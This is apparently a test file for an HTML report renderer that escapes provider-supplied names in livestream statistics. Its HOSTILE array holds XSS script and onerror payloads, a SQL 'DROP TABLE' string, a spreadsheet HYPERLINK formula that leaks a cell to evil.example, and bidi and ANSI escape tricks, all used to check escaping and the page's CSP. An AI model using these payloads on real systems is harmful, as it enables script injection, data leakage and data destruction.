// The page without a browser: provider text only ever as escaped text, no way to fetch or run anything, labels
// in the chosen language, headline values as numbers, and charts placed where the page says.
import { describe, expect, it } from 'vitest';
import type { ChartSpec, Variant } from '../../src/report/charts.js';
import { chartLabel } from '../../src/report/chart-text.js';
import { escapeHtml, html, providerText, visibleControls } from '../../src/report/html.js';
import { labelsFor } from '../../src/report/labels.js';
import type { ReportModel } from '../../src/report/model.js';
import { CONTENT_SECURITY_POLICY, renderPage } from '../../src/report/page.js';
import { RedPackAggregator } from '../../src/report/red-pack-stats.js';
import { GiftAggregator } from '../../src/report/gift-stats.js';
import { funnelOf } from '../../src/report/funnel.js';
import { WatchAggregator } from '../../src/report/watch-stats.js';

export const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '"><img src=x onerror="window.__pwned=2">',
  "O'Brien; DROP TABLE viewers;--",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  'line one\nline two',
  '\u001b[31mred alert\u001b[0m',
  '\u202eevil\u202c reversed',
  '🐼熊猫👨‍👩‍👧',
  '</style><style>body{display:none}</style>',
];

export function hostileModel(language: 'en' | 'zh' = 'en'): ReportModel {
  const watch = new WatchAggregator(['lv<1>']);
  HOSTILE.forEach((name, i) => {
    watch.add({ living_id: 'lv<1>', external_type: null, invitor_userid: null, invitor_external_userid: null, viewer_type: 'external', userid: null, external_userid: `wm${i}`, name, watch_time_s: 600 + i, is_comment: true, is_mic: null });
  });
  watch.add({ living_id: 'lv<1>', external_type: null, invitor_userid: null, invitor_external_userid: null, viewer_type: 'member', userid: '<b>member</b>', external_userid: null, name: null, watch_time_s: 30, is_comment: false, is_mic: true });
  const gifts = new GiftAggregator('room"1');
  HOSTILE.forEach((account, i) => gifts.add({ room_id: 'room"1', from_account: account, total_count: i + 1, total_coins: (i + 1) * 10, gift_sender_count: 1, sequence: null }));
  const packs = new RedPackAggregator(['ch&1'], (ms) => ms);
  HOSTILE.forEach((sender, i) =>
    packs.add({
      channel: 'ch&1', redPackId: `rp${i}`, createdMs: Date.UTC(2026, 0, 5) + i * 45_000, sender, type: '<i>t</i>', status: '已退款',
      amountFen: 1000 + i, balanceFen: 100, receivedFen: 900 + i, receipts: 2, receiverIds: [`o${i}`, 'same'],
    }),
  );
  return {
    title: '<script>alert("title")</script>',
    labels: labelsFor(language),
    zone: 'Asia/Shanghai',
    generatedAt: Date.UTC(2026, 0, 15, 8),
    sandbox: true,
    wecom: { summary: watch.summary(), command: "livestats watch 'lv<1>' --excel -o watch.csv" },
    tencent: { summary: gifts.summary(), command: 'livestats gifts …' },
    polyv: { summary: packs.summary(), command: 'livestats redpacks …' },
    livecount: {
      summary: funnelOf({ room_id: 7, is_subscribe: 200, is_look: 50, is_order: 5, claimed: null }),
      command: 'livestats livecount --room 7',
    },
  };
}

const drawn: Array<[string, Variant]> = [];
const stubDraw = (spec: ChartSpec, variant: Variant): string => {
  drawn.push([spec.id, variant]);
  return `<svg data-stub="${spec.id}"></svg>`;
};
const time = (ms: number): string => new Date(ms).toISOString();

describe('escaping', () => {
  it('escapes the five HTML characters, and only those', () => {
    expect(escapeHtml(`<a href="x">'&'</a> 张伟`)).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt; 张伟');
  });

  it('escapes interpolations and keeps SafeHtml and arrays', () => {
    const inner = html`<b>${'<i>'}</b>`;
    expect(html`<p title="${'"x"'}">${[inner, '&', 3, null, undefined, false]}</p>`.value).toBe(
      '<p title="&quot;x&quot;"><b>&lt;i&gt;</b>&amp;3</p>',
    );
  });

  it('shows control characters as pictures and isolates provider text', () => {
    expect(visibleControls('a\u001b[31mb\nc\u007f\u0085')).toBe('a\u241b[31mb\u240ac\u2421\ufffd');
    expect(providerText('\u202eevil').value).toBe('<bdi>\u202eevil</bdi>');
    expect(providerText(null).value).toContain('class="empty"');
  });

  it('cuts chart labels at whole characters and drops bidi controls', () => {
    expect(chartLabel('\u202eabc\u202c', 10)).toBe('abc');
    expect(chartLabel('👨‍👩‍👧👨‍👩‍👧👨‍👩‍👧', 2)).toBe('👨‍👩‍👧…');
    expect(chartLabel('a\tb', 10)).toBe('a\u2409b');
  });
});

describe('renderPage', () => {
  const page = renderPage(hostileModel(), stubDraw, time);

  it('lets nothing be fetched or run', () => {
    expect(page).toContain(`<meta http-equiv="Content-Security-Policy" content="${escapeHtml(CONTENT_SECURITY_POLICY)}">`);
    expect(CONTENT_SECURITY_POLICY).toMatch(/default-src 'none'/);
    expect(CONTENT_SECURITY_POLICY).not.toMatch(/script-src/);
    // The only tags are the page's own: no script, no link, no image, no external URL in an attribute.
    expect(page).not.toMatch(/<(script|link|img|iframe|object|embed|base)\b/i);
    expect(page).not.toMatch(/<[a-z][^>]*\s(on\w+|src|href)=/i);
    expect(page.match(/<style>/g)).toHaveLength(1);
  });

  it('shows every hostile name as escaped, isolated text', () => {
    expect(page).toContain('<bdi>&lt;script&gt;window.__pwned = 1&lt;/script&gt;</bdi>');
    expect(page).toContain('<bdi>&quot;&gt;&lt;img src=x onerror=&quot;window.__pwned=2&quot;&gt;</bdi>');
    expect(page).toContain('<bdi>line one\u240aline two</bdi>');
    expect(page).toContain('<bdi>\u241b[31mred alert\u241b[0m</bdi>');
    expect(page).toContain('<title>&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;</title>');
    expect(page).not.toContain('\u001b');
  });

  it('carries the exact figures beside their text', () => {
    const value = (key: string): string | undefined => new RegExp(`data-metric="${key}" data-value="([^"]*)"`).exec(page)?.[1];
    expect(value('wecom.viewers')).toBe(String(HOSTILE.length + 1));
    expect(value('wecom.members')).toBe('1');
    expect(value('tencent.coins')).toBe(String((HOSTILE.length * (HOSTILE.length + 1) * 10) / 2));
    expect(value('polyv.amount_refunded')).toBe(String(HOSTILE.length));
    expect(value('polyv.receivers')).toBe(String(HOSTILE.length + 1));
    expect(value('livecount.watch_rate')).toBe('0.25');
    expect(value('livecount.order_rate')).toBe('0.1');
  });

  it('draws each chart in both sizes, named by its heading and described by its caption', () => {
    for (const id of ['wecom-watch-time', 'wecom-top-viewers', 'tencent-top-accounts', 'polyv-over-time', 'polyv-receipts', 'livecount-funnel']) {
      expect(drawn).toContainEqual([id, 'wide']);
      expect(drawn).toContainEqual([id, 'narrow']);
      expect(page).toContain(`<h3 id="${id}-title">`);
      expect(page).toContain(`<figcaption id="${id}-caption">`);
    }
  });

  it('writes Chinese labels with --headers zh', () => {
    const zh = renderPage({ ...hostileModel('zh'), title: undefined }, stubDraw, time);
    expect(zh).toContain('<html lang="zh-CN">');
    expect(zh).toContain('<title>直播活动报告</title>');
    expect(zh).toContain('观看人数');
    expect(zh).not.toContain('>Viewers<');
  });
});
